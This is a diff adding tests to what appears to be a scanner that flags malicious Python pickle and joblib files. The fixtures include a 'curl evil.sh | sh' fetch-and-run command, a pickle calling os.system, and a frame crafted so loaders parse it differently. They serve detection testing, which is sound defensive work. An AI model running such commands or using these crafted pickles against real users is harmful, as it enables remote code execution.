@@ -176,3 +176,29 @@ def test_ext_opcodes_are_high():
 def test_snippet_shows_the_command():
     f = next(f for f in findings(malicious_pickle(cmd="curl evil.sh | sh")) if f.rule_id == "pickle-dangerous-global")
     assert "curl evil.sh | sh" in f.snippet
+
+
+def test_frame_violation_is_reported_with_the_payload():
+    body = bytes(Asm(None).global_("os", "system").str("id").op(pickle.TUPLE1).op(pickle.REDUCE)) + pickle.STOP
+    # a FRAME that ends in the middle of the GLOBAL's argument: loaders disagree on what follows
+    data = pickle.PROTO + b"\x04" + pickle.FRAME + (5).to_bytes(8, "little") + body
+    got = rules(data)
+    assert ("pickle-frame-violation", Severity.HIGH) in got and CRITICAL in got
+    violation = next(f for f in findings(data) if f.rule_id == "pickle-frame-violation")
+    assert violation.evidence["kind"] == "crosses-frame-end"
+
+
+def test_clean_framed_pickles_have_no_violation():
+    big = pickle.dumps([{"k": i, "v": str(i) * 10} for i in range(20_000)], protocol=5)
+    assert rules(big) == set()
+
+
+def test_joblib_files_are_read_both_ways(tmp_path):
+    joblib = pytest.importorskip("joblib")
+    np = pytest.importorskip("numpy")
+    from tests.conftest import Exploit
+    path = tmp_path / "model.joblib"
+    joblib.dump({"weights": np.arange(1000.0), "hook": Exploit()}, path, compress=0)
+    result = scan_bytes(path.read_bytes(), name="model.joblib")
+    assert CRITICAL in {(f.rule_id, f.severity) for f in result.findings}
+    assert "pickle-parse-error" not in {f.rule_id for f in result.findings}
